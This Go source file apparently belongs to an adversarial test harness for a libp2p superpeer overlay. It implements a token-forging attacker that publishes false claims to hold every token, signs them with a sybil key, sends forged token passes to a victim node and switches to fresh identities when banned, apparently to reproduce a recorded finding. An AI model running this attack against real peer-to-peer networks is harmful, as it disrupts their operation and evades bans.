package attack

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	pubsub "github.com/libp2p/go-libp2p-pubsub"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
)

// The geometric strategy's token topic and token protocol, as a client
// that no one here wrote would name them (gossip.TokenTopic, overlay's
// tokenProtocol): version 2 of the topic's payloads and 3.0.0 of the
// protocol carry the giver's signed link (gossip.TokenLink).
const (
	tokenTopicVersion = 2
	tokenProtoVersion = "3.0.0"
)

// TokenTopic is the token topic of the overlay on a network.
func TokenTopic(network string) string {
	return fmt.Sprintf("/superpeer/%s/tokens/%d", network, tokenTopicVersion)
}

// TokenProtocol is the token pass protocol of the overlay on a network.
func TokenProtocol(network string) protocol.ID {
	return protocol.ID(fmt.Sprintf("/superpeer/%s/token/%s", network, tokenProtoVersion))
}

// Tokens is the token forgery of issue 19's finding 3, with the
// defaults of TokenForger: a member of a geometric swarm that claims
// every token, one pass above its holder's, as a superpeer, and passes
// every token, one pass above its holder's, to the victim.
func Tokens(ctx context.Context, t Target) error {
	return (&TokenForger{}).Run(ctx, t)
}

// TokenForger is a hostile member of a geometric swarm (issue 19, finding
// 3: "a peer announced on the token topic that it held both tokens, one
// pass above the real holders; they dropped them ... a token pass for a
// token the sender never held was accepted and demoted the real holder
// for good"). It joins the token topic, reads who holds which token at
// which pass counter, and every Period, for every token:
//
//   - publishes that it holds the token one pass above its holder's, as
//     a superpeer with room, at the coordinate every peer starts at; the
//     claim carries a link (the pass's signature) by a key of its own
//     that is not the holder's (a sybil), which gossip's validator finds
//     valid, so that only the node machines' rules can refuse it (or no
//     link at all with Unsigned, which the validators reject);
//   - passes the token, one pass above its holder's, to the victim (to
//     another node when the victim holds it), with its own signature.
//
// When the victim bans it (the connection is refused or dropped) it goes
// on under a fresh identity. Run it once; read Stats after.
type TokenForger struct {
	// Period is the time between two rounds of claims and passes; zero
	// means a second.
	Period time.Duration
	// Unsigned publishes claims without a link.
	Unsigned bool

	claims, passes, taken, refused, identities atomic.Uint64
	mu                                         sync.Mutex
	heard                                      map[int]heardToken
}

// TokenForgerStats counts what a TokenForger did: claims published,
// passes sent and how they were answered (taken, or refused: a no, a
// reset, a stream that would not open), identities used.
type TokenForgerStats struct {
	Claims, Passes, Taken, Refused, Identities uint64
}

// Stats returns the counts so far.
func (f *TokenForger) Stats() TokenForgerStats {
	return TokenForgerStats{Claims: f.claims.Load(), Passes: f.passes.Load(), Taken: f.taken.Load(),
		Refused: f.refused.Load(), Identities: f.identities.Load()}
}

// heardToken is the newest report of a token the forger heard: its
// holder and pass counter.
type heardToken struct {
	holder peer.ID
	seq    uint64
}

// tokenMsg is the token topic's payload, written out here (gossip's
// wireToken).
type tokenMsg struct {
	V         int        `json:"v"`
	Seq       uint64     `json:"seq"`
	Num       int        `json:"num"`
	TokenSeq  uint64     `json:"tseq"`
	Coord     *coordMsg  `json:"coord,omitempty"`
	Superpeer bool       `json:"superpeer,omitempty"`
	Load      int        `json:"load"`
	Capacity  int        `json:"capacity"`
	Released  bool       `json:"released,omitempty"`
	Link      *tokenLink `json:"link,omitempty"`
}

type coordMsg struct {
	Vec        []float64 `json:"vec"`
	Error      float64   `json:"error"`
	Adjustment float64   `json:"adjustment"`
	Height     float64   `json:"height"`
}

type tokenLink struct {
	Key []byte `json:"key"`
	Sig []byte `json:"sig"`
}

// sign is a link: sk's signature of the pass of token num at seq to the
// peer to (gossip's linkBytes).
func sign(sk crypto.PrivKey, num int, seq uint64, to peer.ID) (*tokenLink, error) {
	key, err := crypto.MarshalPublicKey(sk.GetPublic())
	if err != nil {
		return nil, err
	}
	b := append([]byte("/superpeer/token-link/1\x00"), make([]byte, 16)...)
	binary.BigEndian.PutUint64(b[len(b)-16:], uint64(num))
	binary.BigEndian.PutUint64(b[len(b)-8:], seq)
	sig, err := sk.Sign(append(b, to...))
	if err != nil {
		return nil, err
	}
	return &tokenLink{Key: key, Sig: sig}, nil
}

// Run attacks t until ctx ends. An error means it could not attack at
// all.
func (f *TokenForger) Run(ctx context.Context, t Target) error {
	if f.Period <= 0 {
		f.Period = time.Second
	}
	f.mu.Lock()
	f.heard = map[int]heardToken{}
	f.mu.Unlock()
	sybil, _, err := crypto.GenerateEd25519Key(rand.Reader)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		if err := f.identity(ctx, t, sybil); err != nil {
			if ctx.Err() != nil {
				return nil // a fresh identity cut short by the end of the attack
			}
			return err
		}
		select {
		case <-ctx.Done():
		case <-time.After(100 * time.Millisecond):
		}
	}
	return nil
}

// identity attacks under one fresh identity until the victim drops it or
// ctx ends.
func (f *TokenForger) identity(ctx context.Context, t Target, sybil crypto.PrivKey) error {
	h, err := NewHost()
	if err != nil {
		return err
	}
	defer h.Close()
	f.identities.Add(1)
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	ps, err := pubsub.NewGossipSub(ctx, h)
	if err != nil {
		return err
	}
	topic, err := ps.Join(TokenTopic(t.Network))
	if err != nil {
		return err
	}
	defer topic.Close()
	sub, err := topic.Subscribe()
	if err != nil {
		return err
	}
	defer sub.Cancel()
	for _, n := range append([]peer.AddrInfo{t.Victim}, t.Nodes...) {
		_ = h.Connect(ctx, n)
	}
	go f.listen(ctx, h, sub)
	tick := time.NewTicker(f.Period)
	defer tick.Stop()
	var seq uint64
	unanswered := 0 // passes in a row whose stream did not open: banned
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
		if h.Network().Connectedness(t.Victim.ID) != network.Connected {
			if err := h.Connect(ctx, t.Victim); err != nil {
				return nil // banned: a fresh identity
			}
		}
		f.mu.Lock()
		heard := make(map[int]heardToken, len(f.heard))
		for num, ht := range f.heard {
			heard[num] = ht
		}
		f.mu.Unlock()
		for num, ht := range heard {
			if ht.holder == h.ID() {
				continue
			}
			seq++
			f.claim(ctx, h, topic, sybil, num, ht.seq+1, seq)
			to := t.Victim.ID
			if ht.holder == to {
				for _, n := range t.Nodes {
					if n.ID != to && n.ID != ht.holder {
						to = n.ID
						break
					}
				}
			}
			if f.pass(ctx, h, t.Network, to, num, ht.seq+1) {
				unanswered = 0
			} else if unanswered++; unanswered >= 3 {
				return nil // banned: a fresh identity
			}
		}
	}
}

// listen notes the holders' reports heard on the token topic.
func (f *TokenForger) listen(ctx context.Context, h host.Host, sub *pubsub.Subscription) {
	for {
		msg, err := sub.Next(ctx)
		if err != nil {
			return
		}
		from := msg.GetFrom()
		var m tokenMsg
		if from == h.ID() || json.Unmarshal(msg.Data, &m) != nil || m.Released {
			continue
		}
		f.mu.Lock()
		if old, ok := f.heard[m.Num]; !ok || m.TokenSeq >= old.seq {
			f.heard[m.Num] = heardToken{holder: from, seq: m.TokenSeq}
		}
		f.mu.Unlock()
	}
}

// claim publishes that h holds token num at tseq.
func (f *TokenForger) claim(ctx context.Context, h host.Host, topic *pubsub.Topic, sybil crypto.PrivKey, num int, tseq, seq uint64) {
	m := tokenMsg{V: tokenTopicVersion, Seq: seq, Num: num, TokenSeq: tseq, Superpeer: true, Capacity: 64,
		Coord: &coordMsg{Vec: make([]float64, 8), Error: 1.5, Height: 1e-5}}
	if !f.Unsigned {
		link, err := sign(sybil, num, tseq, h.ID())
		if err != nil {
			return
		}
		m.Link = link
	}
	data, err := json.Marshal(m)
	if err != nil {
		return
	}
	if topic.Publish(ctx, data) == nil {
		f.claims.Add(1)
	}
}

// pass hands token num at seq to the peer to, signed by h's own key, and
// reports whether to answered (yes or no).
func (f *TokenForger) pass(ctx context.Context, h host.Host, network string, to peer.ID, num int, seq uint64) bool {
	sk := h.Peerstore().PrivKey(h.ID())
	if sk == nil {
		return false
	}
	link, err := sign(sk, num, seq, to)
	if err != nil {
		return false
	}
	key := binary.AppendUvarint(nil, uint64(len(link.Key)))
	payload := binary.BigEndian.AppendUint64(nil, uint64(num))
	payload = binary.BigEndian.AppendUint64(payload, seq)
	payload = append(append(append(payload, key...), link.Key...), link.Sig...)
	f.passes.Add(1)
	yes, answered := taken(ctx, h, to, TokenProtocol(network), Frame(WireVersion, FrameToken, payload))
	if yes {
		f.taken.Add(1)
	} else {
		f.refused.Add(1)
	}
	return answered
}

// taken sends a token pass frame and reports whether the answer was a
// frame of yes (length 3, the version, FrameAnswer, 1), and whether the
// stream opened at all (a banned peer's does not).
func taken(ctx context.Context, h host.Host, to peer.ID, proto protocol.ID, frame []byte) (yes, answered bool) {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	s, err := h.NewStream(ctx, to, proto)
	if err != nil {
		return false, false
	}
	defer s.Close()
	_ = s.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := s.Write(frame); err != nil {
		return false, true
	}
	_ = s.CloseWrite()
	var b [4]byte
	if _, err := io.ReadFull(s, b[:]); err != nil {
		return false, true
	}
	return b == [4]byte{3, WireVersion, FrameAnswer, 1}, true
}
